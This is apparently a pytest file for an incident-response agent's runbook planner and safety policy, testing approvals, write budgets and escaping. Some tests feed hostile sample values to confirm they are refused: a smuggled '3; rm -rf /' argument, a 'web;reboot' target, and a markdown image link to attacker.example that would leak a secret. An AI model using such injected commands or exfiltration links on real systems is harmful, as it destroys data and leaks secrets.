"""Runbook planning, conditions, validation and the safety policy, without any LLM."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from typer.testing import CliRunner

from agent.cli.main import app
from agent.incidents.context import load_observations
from agent.incidents.models import AlertInfo, IncidentContext, Observation, PlanStep
from agent.incidents.storage import IncidentStore
from agent.planning.runbook import RunbookPlanner
from agent.safety.policy import Approval, SafetyPolicy
from infrastructure.configuration.loader import UICIConfig, load_config
from tests.conftest import DATA, SHIPPED_CONFIG

FAILURES = {
    "missing_env": ("missing-configuration", "missing_setting"),
    "oom": ("oom-killed", "oom_killed"),
    "unhealthy": ("health-check-failing", "probe_failing"),
    "lost_dependency": ("dependency-down", "dependency_down"),
    "cpu_burn": ("cpu-saturation", "cpu_saturation"),
}


@pytest.fixture
def config(planning_env: dict[str, str]) -> UICIConfig:
    return load_config(SHIPPED_CONFIG, environ=planning_env)


@pytest.fixture
def history(config: UICIConfig) -> IncidentStore:
    return IncidentStore.from_config(config)


def context(
    alertname: str = "ServiceDown",
    service: str = "api",
    deps: list[str] | None = None,
    environment: str = "local-docker",
    incident: str = "inc-1",
) -> IncidentContext:
    return IncidentContext(
        incident_id=incident,
        alert=AlertInfo(labels={"alertname": alertname, "service": service}),
        environment=environment,
        service=service,
        dependencies=deps or [],
    )


def step(
    operation: str,
    target: str | None = "api",
    phase: str = "resolution",
    environment: str = "local-docker",
    **parameters: object,
) -> PlanStep:
    return PlanStep(
        phase=phase,
        operation=operation,
        environment=environment,
        target=target,  # type: ignore[arg-type]
        parameters=parameters,
        proposed_by="llm",
    )


# --- runbooks ---------------------------------------------------------------------------------


def test_runbooks_match_on_labels_first_match_wins(config: UICIConfig) -> None:
    planner = RunbookPlanner(config.agents)
    assert planner.match(context("ServiceDown")).name == "service-down"
    assert planner.match(context("HighCPUUsage")).name == "resource-pressure"
    assert planner.match(context("CertificateExpiry")).name == "default"


def test_later_steps_depend_on_earlier_observations(config: UICIConfig) -> None:
    planner = RunbookPlanner(config.agents)
    ctx = context("OrdersUnavailable", "orders", deps=["db"])
    _, steps, notes = planner.plan(ctx, "isolation", [])
    assert [s.operation for s in steps] == ["get_events"]
    assert any("skipped: its condition does not hold" in n for n in notes)
    logs = Observation(
        id="obs-1",
        operation="get_logs",
        target="orders",
        success=True,
        output="ERROR connection to db:5432 refused\nINFO retry",
    )
    _, steps, notes = planner.plan(ctx, "isolation", [logs])
    assert [(s.operation, s.target) for s in steps] == [
        ("get_events", "orders"),
        ("get_status", "db"),
    ]
    assert any("condition holds on obs-1" in n for n in notes)


def test_no_rule_matched_is_said_plainly(config: UICIConfig) -> None:
    diagnosis = RunbookPlanner(config.agents).diagnose(context(), [])
    assert diagnosis.category == "unknown" and diagnosis.confidence == 0
    assert "a person should look" in diagnosis.root_cause


@pytest.mark.parametrize("failure", sorted(FAILURES))
def test_uici_plan_diagnoses_each_captured_failure(
    failure: str, planning_env: dict[str, str]
) -> None:
    rule, category = FAILURES[failure]
    result = CliRunner().invoke(
        app,
        [
            "plan",
            "--alert",
            str(DATA / "alerts" / f"{failure}.json"),
            "--observations",
            str(DATA / "observations" / f"{failure}.json"),
            "--json",
        ],
        env=planning_env,
    )
    assert result.exit_code == 0, result.stderr
    data = json.loads(result.stdout)
    assert data["diagnosis"]["rules_matched"][0] == rule
    assert data["diagnosis"]["category"] == category
    assert data["diagnosis"]["evidence"], "the diagnosis cites observations"
    assert [p["planner"] for p in data["plans"]] == ["runbook"] * 4
    text = CliRunner().invoke(
        app,
        [
            "plan",
            "--alert",
            str(DATA / "alerts" / f"{failure}.json"),
            "--observations",
            str(DATA / "observations" / f"{failure}.json"),
        ],
        env=planning_env,
    )
    assert "Diagnosis (runbook)" in text.stdout and "[triage] planner: runbook" in text.stdout


def test_uici_plan_without_observations_prints_the_plan(planning_env: dict[str, str]) -> None:
    result = CliRunner().invoke(
        app, ["plan", "--alert", str(DATA / "alerts" / "oom.json")], env=planning_env
    )
    assert result.exit_code == 0
    assert "Diagnosis" not in result.stdout
    assert "accepted       get_status uici-demo-worker" in result.stdout


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("{not json", "bad input"),
        ('{"alerts": []}', "no alerts"),
        ('{"labels": {"alertname": "X"}}', "names no service"),
    ],
)
def test_uici_plan_bad_alert(
    tmp_path: Path, planning_env: dict[str, str], content: str, message: str
) -> None:
    path = tmp_path / "alert.json"
    path.write_text(content)
    result = CliRunner().invoke(app, ["plan", "--alert", str(path)], env=planning_env)
    assert result.exit_code == 2 and message in result.stderr


# --- validation and policy ---------------------------------------------------------------------


def decide(
    config: UICIConfig,
    history: IncidentStore,
    *steps: PlanStep,
    ctx: IncidentContext | None = None,
    runbook_name: str | None = "service-down",
):  # type: ignore[no-untyped-def]
    policy = SafetyPolicy(config, history)
    runbook = next((r for r in config.agents.runbooks if r.name == runbook_name), None)
    return policy.review(list(steps), ctx or context(), runbook)


def test_read_runs_write_needs_approval_destructive_refused(
    config: UICIConfig, history: IncidentStore
) -> None:
    read, write, destructive = decide(
        config,
        history,
        step("get_logs", phase="triage"),
        step("start_service"),
        step("stop_service"),
    )
    assert read.decision == "accepted" and read.policy == "read: runs"
    assert write.decision == "needs_approval"
    assert destructive.decision == "rejected"
    assert "destructive operations are not allowed" in destructive.reasons[0]


def test_auto_approval_is_bound_to_the_runbook_step_and_its_evidence(
    config: UICIConfig, history: IncidentStore
) -> None:
    """service-down auto-approves restart_service only as its resolution step does: on the
    alerted service, with its parameters, when its condition (oom_killed) holds on what was
    observed. Who proposed it (runbook or LLM) does not matter; what was seen does."""
    policy = SafetyPolicy(config, history)
    runbook = next(r for r in config.agents.runbooks if r.name == "service-down")
    oom = Observation(
        id="obs-1", phase="triage", operation="get_status", environment="local-docker",
        target="api", success=True,
        data=[{"state": "exited", "oom_killed": True, "seconds_since_crash": 0}],
    )  # fmt: skip
    calm = oom.model_copy(update={"data": [{"state": "running", "oom_killed": False}]})

    def decided(s: PlanStep, seen: list[Observation], ctx: IncidentContext | None = None) -> str:
        [decision] = policy.review([s], ctx or context(), runbook, observations=seen)
        policy.settle(ctx or context(), s)
        return decision.decision + ": " + decision.policy

    restart = step("restart_service")
    assert decided(restart, [oom]).startswith(
        "accepted: auto-approved by runbook service-down: resolution step 1 (restart_service),"
        " its condition holds on obs-1"
    )
    assert decided(restart, []).startswith("needs_approval")  # no evidence, no auto-approval
    assert decided(restart, [calm]).startswith("needs_approval")
    # Another phase, other parameters, or a dependency the labels named: a person decides.
    assert decided(step("restart_service", phase="isolation"), [oom]).startswith("needs_approval")
    assert decided(step("restart_service", stop_timeout=0), [oom]).startswith("needs_approval")
    with_db = context(deps=["db"])
    on_db = step("restart_service", target="db")
    assert decided(on_db, [oom], with_db).startswith("needs_approval")
    # The default runbook lists no auto-approval at all.
    [other] = decide(config, history, restart, runbook_name="default")
    assert other.decision == "needs_approval"


def test_validation_rejects_with_reasons(config: UICIConfig, history: IncidentStore) -> None:
    decisions = decide(
        config,
        history,
        step("exec_shell", phase="triage"),
        step("get_logs", phase="triage", lines="3; rm -rf /"),
        step("get_logs", target="kube-system", phase="triage"),
        step("get_logs", target="web;reboot", phase="triage"),
        step("get_logs", environment="oci-prod", phase="triage"),
        step("scale_service", replicas=3),
    )
    reasons = [" ".join(d.reasons) for d in decisions]
    assert all(d.decision == "rejected" for d in decisions)
    assert "unknown operation 'exec_shell'" in reasons[0]
    assert "lines: invalid value '3; rm -rf /'" in reasons[1]
    assert "outside this incident's scope" in reasons[2]
    assert "invalid target 'web;reboot'" in reasons[3]
    assert "outside this incident" in reasons[4]
    assert "unsupported on docker" in reasons[5]


def test_step_limit_and_duplicates(config: UICIConfig, history: IncidentStore) -> None:
    steps = [step("get_logs", phase="triage", lines=n) for n in range(1, 9)]
    decisions = decide(config, history, steps[0], steps[0], *steps[1:])
    assert decisions[1].reasons == ["the same step is already in this plan"]
    accepted = [d for d in decisions if d.decision == "accepted"]
    assert len(accepted) == config.agents.diagnostic_agent.max_steps_per_phase["triage"]
    assert "step limit: at most 6 steps in phase triage" in decisions[-1].reasons[0]


def test_write_budget_holds_across_processes(config: UICIConfig, history: IncidentStore) -> None:
    """The budget counts writes recorded in the store (sent, or of unknown outcome), read by
    a new policy in a new process; planned writes count too."""
    from agent.incidents.storage import WriteRecord

    runbook = config.agents.runbooks[0]
    first = context(incident="inc-A", deps=["db", "cache"])
    for key, state in (("w1", "done"), ("w2", "unknown"), ("w3", "failed")):
        record = WriteRecord(
            key=key, incident_id="inc-A", step=step("start_service", target="db"),
            state="pending", actor="t", entry="flow", recorded_at=1.0,
        )  # fmt: skip
        assert history.begin_write(record, 0.0, lambda facts: None) is None
        history.finish_write(key, state, {})  # type: ignore[arg-type]
    again = SafetyPolicy(config, IncidentStore(history.path))
    [decision] = again.review([step("start_service", target="cache")], first, runbook)
    # done and unknown count; a write that failed outright does not
    assert "write budget used: 2 of 2" in decision.reasons[0]
    # Within one plan, accepted writes count too.
    fresh = context(incident="inc-C", deps=["x", "y", "z"])
    decisions = again.review(
        [step("start_service", target=t) for t in ("x", "y", "z")], fresh, runbook
    )
    assert [d.decision for d in decisions] == ["needs_approval", "needs_approval", "rejected"]


def test_approval_is_bound_to_the_exact_step_and_expires(
    config: UICIConfig, history: IncidentStore
) -> None:
    now = [1_000_000.0]
    policy = SafetyPolicy(config, history, clock=lambda: now[0])
    ctx = context()
    start = step("start_service")
    assert policy.decide(start, ctx, None).decision == "needs_approval"
    approval = Approval(
        step_key=start.key(), approved_by="alice", expires_at=policy.approval_expiry(start)
    )
    assert policy.decide(start, ctx, None, approval).decision == "accepted"
    other = step("start_service", target="db")
    wrong = policy.decide(other, context(deps=["db"]), None, approval)
    assert wrong.decision == "rejected" and "different step" in wrong.reasons[0]
    now[0] += 901  # approval_timeout_seconds is 900
    late = policy.decide(start, ctx, None, approval)
    assert late.decision == "rejected" and "expired" in late.reasons[0]
    stale = Approval(
        step_key=start.key(),
        approved_by="bob",
        expires_at=datetime.fromtimestamp(now[0], tz=UTC) - timedelta(seconds=1),
    )
    assert policy.decide(start, ctx, None, stale).decision == "rejected"


def test_a_forged_plan_cannot_skip_the_policy_at_execution(
    config: UICIConfig, history: IncidentStore
) -> None:
    """Steps handed straight to the gate, never planned: the gate decides them again."""
    from agent.safety.gate import ExecutionGate, GateRequest

    gate = ExecutionGate(config, history)
    ctx = context()

    def run(forged: PlanStep) -> object:
        return gate.execute(GateRequest(step=forged, context=ctx, actor="t", entry="flow"))

    for forged in (
        step("stop_service"),
        step("get_logs", target="not-in-scope", phase="triage"),
        step("exec_diagnostic", phase="triage", command="rm"),
    ):
        outcome = run(forged)
        assert outcome.outcome == "refused" and outcome.result is None  # type: ignore[attr-defined]
    outcome = run(step("start_service"))
    assert outcome.outcome == "needs_approval" and outcome.result is None  # type: ignore[attr-defined]
    gate.close()


# --- conditions -------------------------------------------------------------------------------


def test_condition_operators_are_data_not_code(config: UICIConfig) -> None:
    from agent.planning.conditions import check
    from infrastructure.configuration.models import Condition

    obs = [
        Observation(
            id="obs-1",
            operation="get_status",
            target="api",
            success=True,
            data=[{"state": "exited", "exit_code": 137, "health": {"status": "unhealthy"}}],
        )
    ]
    ctx = context()
    cases = [
        ({"field": "exit_code", "operator": "ge", "value": 100}, True),
        ({"field": "exit_code", "operator": "in", "value": [1, 137]}, True),
        ({"field": "health.status", "operator": "matches", "value": "^unh"}, True),
        ({"field": "state", "operator": "ne", "value": "exited"}, False),
        ({"field": "nope", "operator": "absent"}, True),
        ({"field": "state", "operator": "gt", "value": 3}, False),  # str > int: false, no crash
        ({"field": "__class__", "operator": "exists"}, False),
    ]
    for spec, expected in cases:
        condition = Condition(observation="get_status", **spec)  # type: ignore[arg-type]
        assert check(condition, obs, ctx)[0] is expected, spec


# --- live: the runbook investigation on the real failure library ------------------------------


def test_captured_observations_load(tmp_path: Path) -> None:
    observations = load_observations(DATA / "observations" / "oom.json")
    assert observations[0].operation == "get_status"
    bad = tmp_path / "bad.json"
    bad.write_text('{"not": "a list"}')
    with pytest.raises(ValueError, match="expected a JSON list"):
        load_observations(bad)


def test_a_released_write_gives_its_budget_back(config: UICIConfig, history: IncidentStore) -> None:
    policy = SafetyPolicy(config, history)
    runbook = config.agents.runbooks[0]
    ctx = context(incident="inc-R", deps=["x", "y", "z"])
    first = policy.review([step("start_service", target=t) for t in ("x", "y")], ctx, runbook)
    assert [d.decision for d in first] == ["needs_approval", "needs_approval"]
    [third] = policy.review([step("start_service", target="z")], ctx, runbook)
    assert third.decision == "rejected" and "write budget used: 2 of 2" in third.reasons[0]
    [again] = policy.review([step("start_service", target="x")], ctx, runbook)
    assert "already planned in this incident" in again.reasons[0]
    policy.settle(ctx, first[0].step)
    [third] = policy.review([step("start_service", target="z")], ctx, runbook)
    assert third.decision == "needs_approval"


def test_uici_incidents_list_show_and_bad_ids(
    planning_env: dict[str, str], config: UICIConfig
) -> None:
    from agent.incidents.report import IncidentReport
    from agent.incidents.storage import IncidentStore

    store = IncidentStore.from_config(config)
    ctx = context("ServiceDown", "api", incident="inc-show")
    store.open_incident(ctx, "0f0f0f0f-0000-0000-0000-000000000000")
    report = IncidentReport(
        incident_id="inc-show",
        alert=ctx.alert.model_dump(),
        environment="local-docker",
        service="api",
        dependencies=[],
        diagnosis=None,
        observations=[],
        plans=[],
        healthy=False,
        health_detail="api is exited",
    )
    store.save_report("inc-show", report.model_dump(mode="json"), "diagnosed")
    runner = CliRunner()
    listed = runner.invoke(app, ["incidents", "list", "--json"], env=planning_env)
    assert [i["id"] for i in json.loads(listed.stdout)] == ["inc-show"]
    shown = runner.invoke(app, ["incidents", "show", "inc-show"], env=planning_env)
    assert (
        "Incident inc-show: ServiceDown on api" in shown.stdout and "# Incident" not in shown.stdout
    )
    assert "healthy at the end: no (api is exited)" in shown.stdout
    missing = runner.invoke(app, ["incidents", "show", "nope"], env=planning_env)
    assert missing.exit_code == 2 and "no incident 'nope'" in missing.stderr
    not_waiting = runner.invoke(app, ["incidents", "approve", "inc-show"], env=planning_env)
    assert not_waiting.exit_code == 2 and "nothing waits for approval" in not_waiting.stderr


def test_observations_with_the_wrong_shape_are_named(
    tmp_path: Path, planning_env: dict[str, str]
) -> None:
    path = tmp_path / "obs.json"
    path.write_text('[{"id": "obs-1", "operation": "get_status", "success": true}, {"id": 3}]')
    result = CliRunner().invoke(
        app,
        ["plan", "--alert", str(DATA / "alerts" / "oom.json"), "--observations", str(path)],
        env=planning_env,
    )
    assert result.exit_code == 2
    assert (
        "observation [1]: id: Input should be a valid string; operation: Field required"
        in result.stderr
    )


def test_report_markdown_shows_untrusted_text_inertly() -> None:
    from agent.incidents.models import Diagnosis
    from agent.incidents.report import IncidentReport, render_markdown

    hostile = (
        "see ![x](http://attacker.example/?d=SECRET) <script>alert(1)</script> [click](http://evil)"
    )
    report = IncidentReport(
        incident_id="inc-md",
        alert={"labels": {"alertname": "X"}},
        environment="local-docker",
        service="api",
        dependencies=[],
        observations=[],
        plans=[],
        diagnosis=Diagnosis(root_cause=hostile, category="unknown", confidence=0.1, source="llm"),
    )
    markdown = render_markdown(report)
    assert "![x](" not in markdown and "<script>" not in markdown and "[click](" not in markdown
    assert "\\!\\[x\\]" in markdown and "\\<script\\>" in markdown
